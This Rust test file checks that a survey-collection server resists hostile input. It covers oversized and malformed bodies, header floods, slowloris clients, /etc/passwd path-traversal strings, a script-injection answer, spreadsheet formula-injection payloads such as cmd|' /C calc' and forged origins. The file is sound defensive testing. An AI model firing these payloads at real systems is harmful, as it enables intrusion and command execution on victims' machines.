//! Hostile input against the running collector (the real binary on 127.0.0.1 with a real
//! SQLite file): oversized and malformed bodies, header floods, slow clients, path traversal on
//! static serving, and answers that carry scripts or spreadsheet formulas. After every attack
//! the server must still answer an ordinary request.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use crate::harness::{Collector, Server, TestSite, get, raw, request, status_of, walk};

const FORM: (&str, &str) = ("Content-Type", "application/x-www-form-urlencoded");
const JSON: (&str, &str) = ("Content-Type", "application/json");
const PATH: &str = "/api/v1/surveys/deneme/responses";
const VALID: &str = "uye_mi=evet&uye_sayisi=10&aktif_uye=2&_lang=tr";

/// The base site with the open fixture survey, served with its own database and no rate limit
/// (the attacks come from one address and would otherwise only meet `429`).
fn collector() -> (TestSite, Server) {
    let c = Collector::for_fixtures(&["deneme"], &["--open-survey-limit", "0"]);
    (c.site, c.server)
}

/// The server still answers: health, and a valid submission stored (`303`).
#[track_caller]
fn assert_still_serving(addr: SocketAddr) {
    let (status, body) = get(addr, "/api/v1/health");
    assert_eq!((status, body.trim()), (200, r#"{"status":"ok"}"#));
    let (status, _, page) = request(addr, "POST", PATH, &[FORM], VALID.as_bytes());
    assert_eq!(status, 303, "a valid submission after the attack: {page}");
}

fn post_head(content_type: &str, length: usize) -> String {
    format!(
        "POST {PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\
         Content-Type: {content_type}\r\nContent-Length: {length}\r\n\r\n"
    )
}

#[test]
fn oversized_bodies_get_413_and_the_server_keeps_serving() {
    let (_site, server) = collector();
    let addr = server.addr;
    let big = format!("{VALID}&_key={}", "k".repeat(70 * 1024));
    let (status, _, body) = request(addr, "POST", PATH, &[FORM], big.as_bytes());
    assert_eq!(status, 413, "{body}");
    assert!(body.contains("larger than 65536 bytes"), "{body}");
    // A body announced as 1 GB: refused without waiting for it all.
    let start = Instant::now();
    let mut announced = post_head("application/json", 1 << 30).into_bytes();
    announced.extend(std::iter::repeat_n(b' ', 100 * 1024));
    assert_eq!(status_of(&raw(addr, &announced)), 413);
    assert!(start.elapsed() < Duration::from_secs(10));
    // Chunked, with no length announced at all.
    let mut chunked = format!(
        "POST {PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    .into_bytes();
    for _ in 0..80 {
        chunked.extend(b"400\r\n");
        chunked.extend([b'a'; 0x400]);
        chunked.extend(b"\r\n");
    }
    chunked.extend(b"0\r\n\r\n");
    assert_eq!(status_of(&raw(addr, &chunked)), 413);
    // Under the size limit, but one field too long, or too many fields.
    let long_field = format!("{VALID}&note={}", "n".repeat(10_001));
    assert_eq!(
        request(addr, "POST", PATH, &[FORM], long_field.as_bytes()).0,
        413
    );
    let many = "a=1&".repeat(2_001);
    assert_eq!(request(addr, "POST", PATH, &[FORM], many.as_bytes()).0, 413);
    assert_still_serving(addr);
}

#[test]
fn deeply_nested_json_is_refused_or_checked_never_a_crash() {
    let (_site, server) = collector();
    let addr = server.addr;
    // Deeper than the JSON reader's recursion limit: refused as malformed.
    let deep = format!("{}{}", "[".repeat(20_000), "]".repeat(20_000));
    let (status, _, body) = request(addr, "POST", PATH, &[JSON], deep.as_bytes());
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("the JSON is malformed"), "{body}");
    let deep_answers = format!(
        r#"{{"answers": {{"uye_mi": {}"evet"{}}}}}"#,
        "{\"a\":".repeat(5_000),
        "}".repeat(5_000)
    );
    assert_eq!(
        request(addr, "POST", PATH, &[JSON], deep_answers.as_bytes()).0,
        400
    );
    // Nested just within the limit, where a choice is expected: an answer error, not a crash.
    let nested = format!(
        r#"{{"answers": {{"uye_mi": {}"evet"{}, "uye_sayisi": {}1{}}}}}"#,
        "[".repeat(100),
        "]".repeat(100),
        "{\"x\":".repeat(100),
        "}".repeat(100)
    );
    let (status, _, body) = request(addr, "POST", PATH, &[JSON], nested.as_bytes());
    assert_eq!(status, 422, "{body}");
    assert!(body.contains("\"uye_mi\""), "{body}");
    // Thousands of unknown answers: over the field limit before anything is looked at.
    let keys: Vec<String> = (0..4000).map(|i| format!("\"x{i}\": {i}")).collect();
    let wide = format!(
        r#"{{"answers": {{"uye_mi": "hayir", {}}}, "key": "wide"}}"#,
        keys.join(", ")
    );
    let (status, _, body) = request(addr, "POST", PATH, &[JSON], wide.as_bytes());
    assert_eq!(status, 413, "{body}");
    assert_still_serving(addr);
}

#[test]
fn an_oversized_idempotency_key_is_400_and_not_stored() {
    let (site, server) = collector();
    let addr = server.addr;
    let key = "k".repeat(129);
    let form = format!("{VALID}&_key={key}");
    let json = format!(r#"{{"answers": {{"uye_mi": "hayir"}}, "key": "{key}"}}"#);
    let header = ("Idempotency-Key", key.as_str());
    for (content_type, body) in [(FORM, &form), (JSON, &json), (FORM, &VALID.to_string())] {
        let headers = [content_type, header];
        let (status, _, answer) = request(addr, "POST", PATH, &headers, body.as_bytes());
        assert_eq!(status, 400, "{body}: {answer}");
        assert!(answer.contains("longer than 128 bytes"), "{answer}");
    }
    let uuid = "0f3c9a1e-5b7d-4c2a-9e8f-1a2b3c4d5e6f";
    let form = format!("{VALID}&_key={uuid}");
    assert_eq!(request(addr, "POST", PATH, &[FORM], form.as_bytes()).0, 303);
    let db = rusqlite::Connection::open(site.root.join("data/responses.sqlite")).unwrap();
    let longest: i64 = db
        .query_row("SELECT max(length(idem_key)) FROM responses", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(longest, 38, "the key in the anonymous namespace: `a:` + 36");
}

#[test]
fn invalid_utf8_in_form_and_json_bodies_is_400() {
    let (_site, server) = collector();
    let addr = server.addr;
    let cases: [(&str, &[u8]); 5] = [
        ("form, raw byte", b"uye_mi=evet\xff&_lang=tr"),
        ("form, percent-encoded", b"uye_mi=%ff%fe&_lang=tr"),
        ("form, overlong encoding", b"uye_mi=%c0%af&_lang=tr"),
        (
            "json, raw byte",
            b"{\"answers\": {\"uye_mi\": \"ev\xc3\x28\"}}",
        ),
        (
            "json, lone surrogate",
            br#"{"answers": {"uye_mi": "\udc00"}}"#,
        ),
    ];
    for (what, body) in cases {
        let content_type = if what.starts_with("json") { JSON } else { FORM };
        let (status, _, answer) = request(addr, "POST", PATH, &[content_type], body);
        assert_eq!(status, 400, "{what}: {answer}");
    }
    assert_still_serving(addr);
}

#[test]
fn header_floods_are_refused_with_431() {
    let (_site, server) = collector();
    let addr = server.addr;
    let mut many = String::from("GET /api/v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\n");
    for i in 0..500 {
        many.push_str(&format!("X-Flood-{i}: {i}\r\n"));
    }
    many.push_str("\r\n");
    assert_eq!(status_of(&raw(addr, many.as_bytes())), 431, "many headers");
    let huge = format!(
        "GET /api/v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Huge: {}\r\n\r\n",
        "h".repeat(1024 * 1024)
    );
    assert_eq!(
        status_of(&raw(addr, huge.as_bytes())),
        431,
        "one huge header"
    );
    assert_still_serving(addr);
}

#[test]
fn slow_clients_are_cut_off_and_others_are_served_meanwhile() {
    let (_site, server) = collector();
    let addr = server.addr;
    let start = Instant::now();
    // Slowloris: headers one byte at a time, never finished; and a client that sends nothing.
    let slow: Vec<std::thread::JoinHandle<Duration>> = (0..20)
        .map(|i| {
            std::thread::spawn(move || {
                let mut stream = TcpStream::connect(addr).unwrap();
                stream
                    .set_read_timeout(Some(Duration::from_millis(300)))
                    .unwrap();
                let head = format!("POST {PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ");
                let mut sent = 0;
                loop {
                    let byte = head.as_bytes().get(sent).copied().unwrap_or(b's');
                    if i % 2 == 0 && (stream.write_all(&[byte]).is_err()) {
                        break;
                    }
                    sent += 1;
                    let mut buf = [0u8; 256];
                    match stream.read(&mut buf) {
                        Ok(_) => break,
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                        Err(e) if e.kind() == std::io::ErrorKind::TimedOut => {}
                        Err(_) => break,
                    }
                    assert!(start.elapsed() < Duration::from_secs(40), "never cut off");
                }
                start.elapsed()
            })
        })
        .collect();
    std::thread::sleep(Duration::from_secs(1));
    for _ in 0..3 {
        let asked = Instant::now();
        assert_still_serving(addr);
        assert!(asked.elapsed() < Duration::from_secs(2), "others wait");
        std::thread::sleep(Duration::from_secs(1));
    }
    for handle in slow {
        let cut_after = handle.join().unwrap();
        assert!(
            cut_after >= Duration::from_secs(9) && cut_after < Duration::from_secs(20),
            "a slow client is cut off after the header timeout, not at once: {cut_after:?}"
        );
    }
    assert_still_serving(addr);
}

#[test]
fn a_body_that_stops_half_way_gets_408() {
    let (_site, server) = collector();
    let start = Instant::now();
    let mut stream = TcpStream::connect(server.addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(45)))
        .unwrap();
    stream
        .write_all(format!("{}uye_mi=", post_head(FORM.1, 100)).as_bytes())
        .unwrap();
    assert_still_serving(server.addr);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    assert_eq!(status_of(&String::from_utf8_lossy(&answer)), 408);
    assert!(start.elapsed() >= Duration::from_secs(29));
    assert_still_serving(server.addr);
}

#[test]
fn static_serving_refuses_path_traversal() {
    let (_site, server) = collector();
    let addr = server.addr;
    for path in [
        "/../../../../../../etc/passwd",
        "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/%2E%2E%2F%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
        "/css/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/..%5c..%5c..%5c..%5cetc%5cpasswd",
        "/css\\..\\..\\..\\etc\\passwd",
        "/index.html%00.css",
        "/%00",
    ] {
        let (status, _, body) = request(addr, "GET", path, &[], b"");
        assert_eq!(status, 400, "{path}: {body}");
        assert!(!body.contains("root:"), "{path} leaked a file");
    }
    // Double encoding is decoded once: a file name with `%2e` in it, which does not exist.
    let (status, body) = get(addr, "/%252e%252e/%252e%252e/etc/passwd");
    assert_eq!(status, 404);
    assert!(!body.contains("root:"));
    assert_eq!(get(addr, "/").0, 200, "the home page is still served");
    assert_still_serving(addr);
}

/// The benchmark fixture's open needs survey (`ihtiyac`, with a free-text `gorus`).
fn needs_collector() -> (TestSite, Server, String) {
    let site = TestSite::fixture("benchmark");
    let db = site.root.join("data/kume.sqlite");
    let db = db.to_str().unwrap().to_string();
    let server = Server::start(
        &site,
        &["--db", &db, "--rate-limit", "0", "--open-survey-limit", "0"],
    );
    (site, server, db)
}

fn post_needs(addr: SocketAddr, body: &str) -> (u16, String) {
    let path = "/api/v1/surveys/ihtiyac/responses";
    let (status, _, page) = request(addr, "POST", path, &[FORM], body.as_bytes());
    (status, page)
}

fn run_kume(args: &[&str]) -> String {
    crate::harness::kume_ok(args).stderr
}

const SCRIPT: &str = "<script>alert('kume-xss')</script>";

#[test]
fn a_script_answer_is_escaped_when_echoed_and_never_published() {
    let (site, server, db) = needs_collector();
    let addr = server.addr;
    let encoded: String = form_urlencoded_value(SCRIPT);
    // Echoed in the 422 form (an unknown choice code), the answer is text, not markup.
    let (status, page) = post_needs(addr, &format!("tur={encoded}&gorus={encoded}&_lang=tr"));
    assert_eq!(status, 422, "{page}");
    assert!(!page.contains("<script>alert"), "echoed unescaped:\n{page}");
    assert!(page.contains("&lt;script&gt;alert("), "{page}");
    for _ in 0..6 {
        let body = format!("tur=ajans&ihtiyac=egitim&gorus={encoded}&_lang=tr");
        assert_eq!(post_needs(addr, &body).0, 303);
    }
    drop(server);
    let root = site.root.to_str().unwrap();
    let agg = site.root.join("agg");
    run_kume(&[
        "aggregate",
        "--root",
        root,
        "--db",
        &db,
        "--out",
        agg.to_str().unwrap(),
    ]);
    let public = site.root.join("public");
    run_kume(&[
        "build",
        "--root",
        root,
        "--out",
        public.to_str().unwrap(),
        "--aggregates",
        agg.join("aggregates.json").to_str().unwrap(),
    ]);
    assert!(
        public.join("ihtiyaclar/index.html").is_file(),
        "needs page built"
    );
    let files = walk(&public).into_iter().chain(walk(&agg));
    for file in files {
        let text = String::from_utf8_lossy(&std::fs::read(&file).unwrap()).into_owned();
        assert!(
            !text.contains("kume-xss"),
            "free text reached {}",
            file.display()
        );
    }
}

fn form_urlencoded_value(text: &str) -> String {
    form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// Answers a spreadsheet would run as formulas, and one that looks harmless.
const FORMULAS: [&str; 7] = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=HYPERLINK(\"http://example.invalid/?\"&A1;\"click\")",
];

#[test]
fn exports_neutralise_formulas_in_answers() {
    let (site, server, db) = needs_collector();
    // JSON keeps the leading tab and carriage return that a form's answer loses to trimming.
    for formula in FORMULAS.iter().chain(&["plain answer"]) {
        let answers = serde_json::json!({"answers": {"tur": "oda", "gorus": formula}});
        let path = "/api/v1/surveys/ihtiyac/responses";
        let body = answers.to_string();
        let (status, _, reply) = request(server.addr, "POST", path, &[JSON], body.as_bytes());
        assert_eq!(status, 201, "{formula:?}: {reply}");
    }
    drop(server);
    let root = site.root.to_str().unwrap();
    for semicolon in [false, true] {
        let out = site.root.join(format!("export-{semicolon}.csv"));
        let mut args = vec!["export", "--root", root, "--db", &db, "--survey", "ihtiyac"];
        args.extend(["--out", out.to_str().unwrap()]);
        if semicolon {
            args.push("--semicolon");
        }
        run_kume(&args);
        let csv = std::fs::read_to_string(&out).unwrap();
        let separator = if semicolon { b';' } else { b',' };
        let cells: Vec<String> = csv::ReaderBuilder::new()
            .delimiter(separator)
            .from_reader(csv.trim_start_matches('\u{feff}').as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .flat_map(|row| row.into_iter())
            .collect();
        for formula in FORMULAS {
            assert!(
                cells.contains(&format!("'{formula}")),
                "{formula:?} not neutralised in\n{csv}"
            );
            assert!(
                !cells.contains(&formula.to_string()),
                "{formula:?} left live"
            );
        }
        assert!(cells.contains(&"plain answer".to_string()), "{csv}");
        assert!(
            cells
                .iter()
                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
            "a cell still starts like a formula:\n{csv}"
        );
    }
    let xlsx = site.root.join("export.xlsx");
    let out = xlsx.to_str().unwrap();
    run_kume(&[
        "export", "--root", root, "--db", &db, "--survey", "ihtiyac", "--format", "xlsx", "--out",
        out,
    ]);
    assert!(
        std::fs::read(&xlsx).unwrap().starts_with(b"PK"),
        "an .xlsx package"
    );
}

/// One hostile request and the status it must get.
struct Case {
    what: String,
    method: &'static str,
    path: String,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
    expect: u16,
}

fn case(what: impl Into<String>, method: &'static str, path: &str, expect: u16) -> Case {
    Case {
        what: what.into(),
        method,
        path: path.to_string(),
        headers: Vec::new(),
        body: Vec::new(),
        expect,
    }
}

fn json_case(what: &str, answers: &str, expect: u16) -> Case {
    let mut c = case(what, "POST", PATH, expect);
    c.headers.push(("Content-Type", JSON.1.to_string()));
    c.body = format!(r#"{{"answers": {answers}}}"#).into_bytes();
    c
}

fn raw_json_case(what: &str, body: &str, expect: u16) -> Case {
    let mut c = case(what, "POST", PATH, expect);
    c.headers.push(("Content-Type", JSON.1.to_string()));
    c.body = body.as_bytes().to_vec();
    c
}

fn form_case(what: &str, body: &str, expect: u16) -> Case {
    let mut c = case(what, "POST", PATH, expect);
    c.headers.push(("Content-Type", FORM.1.to_string()));
    c.body = body.as_bytes().to_vec();
    c
}

fn with(mut c: Case, name: &'static str, value: &str) -> Case {
    c.headers.push((name, value.to_string()));
    c
}

/// Answers of the wrong shape, keys the survey does not have, bodies that are not what they
/// claim, foreign origins, odd methods and paths.
fn hostile_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    // JSON answers of the wrong shape or with unknown keys: 422 naming the field.
    for (what, answers) in [
        ("a list for a single choice", r#"{"uye_mi": ["evet"]}"#),
        (
            "two codes for a single choice",
            r#"{"uye_mi": ["evet", "hayir"]}"#,
        ),
        ("a number for a code", r#"{"uye_mi": 1}"#),
        ("true for a code", r#"{"uye_mi": true}"#),
        ("an object for a code", r#"{"uye_mi": {"code": "evet"}}"#),
        ("a code not in the list", r#"{"uye_mi": "belki"}"#),
        ("an empty code", r#"{"uye_mi": ""}"#),
        (
            "a list for a number",
            r#"{"uye_mi": "evet", "uye_sayisi": [1]}"#,
        ),
        (
            "an object for a number",
            r#"{"uye_mi": "evet", "uye_sayisi": {"n": 1}}"#,
        ),
        (
            "true for a number",
            r#"{"uye_mi": "evet", "uye_sayisi": true}"#,
        ),
        (
            "text for a number",
            r#"{"uye_mi": "evet", "uye_sayisi": "çok"}"#,
        ),
        (
            "a fraction for an integer",
            r#"{"uye_mi": "evet", "uye_sayisi": 2.5}"#,
        ),
        (
            "a number over the maximum",
            r#"{"uye_mi": "evet", "uye_sayisi": 1001}"#,
        ),
        (
            "a negative count",
            r#"{"uye_mi": "evet", "uye_sayisi": -1}"#,
        ),
        (
            "more active than members",
            r#"{"uye_mi": "evet", "uye_sayisi": 2, "aktif_uye": 3}"#,
        ),
        (
            "a calculated value sent in",
            r#"{"uye_mi": "evet", "oran": 100}"#,
        ),
        ("an unknown key", r#"{"uye_mi": "evet", "x": 1}"#),
        (
            "an unknown key with a dot",
            r#"{"uye_mi": "evet", "uye_mi.x": "1"}"#,
        ),
        (
            "'other' of a list without it",
            r#"{"uye_mi": "evet", "uye_mi.other": "x"}"#,
        ),
        ("an empty key", r#"{"uye_mi": "evet", "": 1}"#),
        (
            "a key with a bracket",
            r#"{"uye_mi": "evet", "uye_mi[0]": "evet"}"#,
        ),
        (
            "a Turkish unknown key",
            r#"{"uye_mi": "evet", "üye_mi": "evet"}"#,
        ),
        ("a key that only differs in case", r#"{"UYE_MI": "evet"}"#),
        ("a key with a dotted i", r#"{"uye_mİ": "evet"}"#),
        ("nothing answered", r#"{}"#),
        (
            "a null answer to a required question",
            r#"{"uye_mi": null}"#,
        ),
        (
            "a script as a code",
            r#"{"uye_mi": "<script>alert(1)</script>"}"#,
        ),
        ("a formula as a code", r#"{"uye_mi": "=HYPERLINK(\"x\")"}"#),
        ("a code with spaces", r#"{"uye_mi": " evet "}"#),
        ("a code in capitals", r#"{"uye_mi": "EVET"}"#),
    ] {
        cases.push(json_case(what, answers, 422));
    }
    // Bodies that are not a submission: 400.
    for (what, body) in [
        ("an empty body", ""),
        ("a JSON list", "[]"),
        ("a JSON string", "\"answers\""),
        ("a JSON number", "42"),
        ("JSON null", "null"),
        ("answers as a list", r#"{"answers": []}"#),
        ("answers as text", r#"{"answers": "uye_mi=evet"}"#),
        ("answers null", r#"{"answers": null}"#),
        ("no answers", r#"{"lang": "tr"}"#),
        ("truncated JSON", r#"{"answers": {"uye_mi": "ev"#),
        ("a trailing comma", r#"{"answers": {"uye_mi": "evet",}}"#),
        ("single quotes", "{'answers': {'uye_mi': 'evet'}}"),
        (
            "a number too large for a double",
            r#"{"answers": {"uye_mi": "evet", "uye_sayisi": 1e400}}"#,
        ),
        (
            "JSON with a BOM",
            "\u{feff}{\"answers\": {\"uye_mi\": \"hayir\"}}",
        ),
        ("two JSON documents", r#"{"answers": {}} {"answers": {}}"#),
        (
            "an idempotency key of 129 bytes",
            &format!(
                r#"{{"answers": {{"uye_mi": "hayir"}}, "key": "{}"}}"#,
                "k".repeat(129)
            ),
        ),
    ] {
        cases.push(raw_json_case(what, body, 400));
    }
    // Within the limits and well-formed, with extras the API ignores or accepts: 201.
    for (what, body) in [
        (
            "a valid answer",
            r#"{"answers": {"uye_mi": "hayir"}, "key": "h-valid"}"#.to_string(),
        ),
        (
            "an unknown language falls back",
            r#"{"answers": {"uye_mi": "hayir"}, "lang": "xx", "key": "h-lang"}"#.to_string(),
        ),
        (
            "a key of 128 bytes",
            format!(
                r#"{{"answers": {{"uye_mi": "hayir"}}, "key": "{}"}}"#,
                "k".repeat(128)
            ),
        ),
        (
            "unknown top-level members are not answers",
            r#"{"answers": {"uye_mi": "hayir"}, "extra": {"x": 1}, "key": "h-extra"}"#.to_string(),
        ),
        (
            "a hidden answer is dropped, not refused",
            r#"{"answers": {"uye_mi": "hayir", "uye_sayisi": 5}, "key": "h-hidden"}"#.to_string(),
        ),
        (
            "null for an optional answer",
            r#"{"answers": {"uye_mi": "hayir", "uye_sayisi": null}, "key": "h-null"}"#.to_string(),
        ),
        (
            "consent sent as an answer",
            r#"{"answers": {"uye_mi": "hayir", "_consent": true}, "key": "h-consent"}"#.to_string(),
        ),
        (
            "the same key and answers again",
            r#"{"answers": {"uye_mi": "hayir"}, "key": "h-valid"}"#.to_string(),
        ),
    ] {
        cases.push(raw_json_case(what, &body, 201));
    }
    cases.push(raw_json_case(
        "the same key with other answers",
        r#"{"answers": {"uye_mi": "evet", "uye_sayisi": 3}, "key": "h-valid"}"#,
        409,
    ));
    cases.push(raw_json_case(
        "a token nobody was given",
        r#"{"answers": {"uye_mi": "hayir"}, "token": "0123456789abcdef0123456789abcdef"}"#,
        403,
    ));
    // Form posts.
    for (what, body, expect) in [
        (
            "the honeypot filled in",
            "uye_mi=hayir&_lang=tr&_website=http%3A%2F%2Fspam",
            400,
        ),
        (
            "a draft without an invitation",
            "uye_mi=hayir&_lang=tr&_action=draft",
            403,
        ),
        (
            "a code picked twice",
            "uye_mi=hayir&uye_mi=hayir&_lang=tr",
            303,
        ),
        (
            "a number in Turkish over the maximum",
            "uye_mi=evet&uye_sayisi=1.234&_lang=tr",
            422,
        ),
        (
            "text for a number",
            "uye_mi=evet&uye_sayisi=%C3%A7ok&_lang=tr",
            422,
        ),
        (
            "a negative number",
            "uye_mi=evet&uye_sayisi=-5&_lang=tr",
            422,
        ),
        ("a code not in the list", "uye_mi=belki&_lang=tr", 422),
        (
            "a bracketed name instead of the field",
            "uye_mi%5B0%5D=evet&_lang=tr",
            422,
        ),
        ("nothing at all", "_lang=tr", 422),
        ("only unknown fields", "a=1&b=2&c=3", 422),
        (
            "unknown fields beside a valid answer",
            "uye_mi=hayir&zzz=1&_lang=tr",
            303,
        ),
        (
            "a script in an unknown field",
            "uye_mi=hayir&x=%3Cscript%3E&_lang=en",
            303,
        ),
        ("an empty language", "uye_mi=hayir&_lang=", 303),
        (
            "a token nobody was given",
            "uye_mi=hayir&_lang=tr&_token=nope",
            403,
        ),
        (
            "a field name of 10,001 bytes",
            &format!("{}=1&uye_mi=hayir", "n".repeat(10_001)),
            303,
        ),
        ("2,001 fields", &"a=1&".repeat(2_001), 413),
        (
            "a value of 10,001 bytes",
            &format!("uye_mi=hayir&x={}", "v".repeat(10_001)),
            413,
        ),
        ("a lone percent sign", "uye_mi=hayir&x=%&_lang=tr", 303),
        ("a half escape", "uye_mi=hayir&x=%C&_lang=tr", 303),
        ("a NUL byte", "uye_mi=hayir&x=%00&_lang=tr", 303),
        ("only separators", "&&&&&&", 422),
        (
            "an idempotency key of 129 bytes",
            &format!("uye_mi=hayir&_key={}", "k".repeat(129)),
            400,
        ),
    ] {
        cases.push(form_case(what, body, expect));
    }
    // Content types that are not a form or JSON: 415.
    for content_type in [
        "text/plain",
        "multipart/form-data; boundary=x",
        "application/xml",
        "application/x-www-form-urlencodedx",
        "application/jsonp",
        "",
    ] {
        let mut c = case(format!("content type `{content_type}`"), "POST", PATH, 415);
        if !content_type.is_empty() {
            c.headers.push(("Content-Type", content_type.to_string()));
        }
        c.body = b"uye_mi=hayir".to_vec();
        cases.push(c);
    }
    for content_type in [
        "application/json; charset=utf-8",
        "APPLICATION/JSON",
        "application/json ; charset=UTF-8",
    ] {
        let mut c = raw_json_case(
            &format!("content type `{content_type}`"),
            &format!(
                r#"{{"answers": {{"uye_mi": "hayir"}}, "key": "ct-{}"}}"#,
                content_type.len()
            ),
            201,
        );
        c.headers = vec![("Content-Type", content_type.to_string())];
        cases.push(c);
    }
    // Foreign origins: 403 before the body is read.
    for origin in [
        "https://another-site.example",
        "http://test.example.org",
        "https://test.example.org.evil.example",
        "https://evil.example/https://test.example.org",
        "file://",
    ] {
        cases.push(with(
            form_case(&format!("Origin {origin}"), "uye_mi=hayir&_lang=tr", 403),
            "Origin",
            origin,
        ));
    }
    cases.push(with(
        with(
            form_case(
                "Origin null from another site",
                "uye_mi=hayir&_lang=tr",
                403,
            ),
            "Origin",
            "null",
        ),
        "Sec-Fetch-Site",
        "cross-site",
    ));
    for fetch_site in ["cross-site", "CROSS-SITE"] {
        cases.push(with(
            form_case(
                &format!("Sec-Fetch-Site {fetch_site}"),
                "uye_mi=hayir&_lang=tr",
                403,
            ),
            "Sec-Fetch-Site",
            fetch_site,
        ));
    }
    for fetch_site in ["same-origin", "same-site", "none"] {
        cases.push(with(
            form_case(
                &format!("Sec-Fetch-Site {fetch_site}"),
                "uye_mi=hayir&_lang=tr",
                303,
            ),
            "Sec-Fetch-Site",
            fetch_site,
        ));
    }
    cases.push(with(
        form_case("the site's own origin", "uye_mi=hayir&_lang=tr", 303),
        "Origin",
        "https://test.example.org",
    ));
    // Methods and paths.
    for method in ["GET", "PUT", "DELETE", "PATCH"] {
        cases.push(case(
            format!("{method} on the responses"),
            method,
            PATH,
            405,
        ));
    }
    cases.push(case("OPTIONS on the responses", "OPTIONS", PATH, 204));
    for path in [
        "/api/v1/surveys/yok/responses",
        "/api/v1/surveys/../../etc/passwd",
        "/api/v1/surveys/%2e%2e/responses",
        "/api/v2/surveys/deneme/responses",
        "/api/v1/metrics",
        "/api/v1/aggregates.json",
        "/api/v1/",
        "/api/",
        "/api/v1/health/extra",
    ] {
        let c = if path.ends_with("/responses") {
            let mut c = form_case(&format!("POST {path}"), "uye_mi=hayir", 404);
            c.path = path.to_string();
            c
        } else {
            case(format!("GET {path}"), "GET", path, 404)
        };
        cases.push(c);
    }
    // The personal form without a valid invitation.
    for (what, query, cookie) in [
        ("no token", "", ""),
        ("an empty token", "?t=", ""),
        ("a token nobody was given", "?t=0123456789abcdef", ""),
        ("a script as the token", "?t=%3Cscript%3E", ""),
        ("a cookie nobody was given", "", "kume_invitation=nope"),
        ("a second miss after the redirect", "?opened=2", ""),
        ("an empty cookie", "", "kume_invitation="),
        ("another cookie only", "", "other=1"),
    ] {
        let mut c = case(
            format!("personal form: {what}"),
            "GET",
            &format!("/api/v1/surveys/deneme/form{query}"),
            403,
        );
        if !cookie.is_empty() {
            c.headers.push(("Cookie", cookie.to_string()));
        }
        cases.push(c);
    }
    cases.push(case(
        "personal form of a survey that does not exist",
        "GET",
        "/api/v1/surveys/yok/form?t=x",
        404,
    ));
    cases
}

#[test]
fn a_table_of_hostile_requests_gets_the_right_answers_and_the_server_keeps_serving() {
    let (_site, server) = collector();
    let cases = hostile_cases();
    assert!(cases.len() >= 120, "{} cases", cases.len());
    let mut wrong = Vec::new();
    for c in &cases {
        let headers: Vec<(&str, &str)> = c.headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let (status, _, body) = request(server.addr, c.method, &c.path, &headers, &c.body);
        if status != c.expect {
            wrong.push(format!(
                "{}: {} (expected {}): {}",
                c.what,
                status,
                c.expect,
                body.chars().take(200).collect::<String>()
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {} cases:\n{}",
        wrong.len(),
        cases.len(),
        wrong.join("\n")
    );
    eprintln!("hostile table: {} cases", cases.len());
    assert_still_serving(server.addr);
}
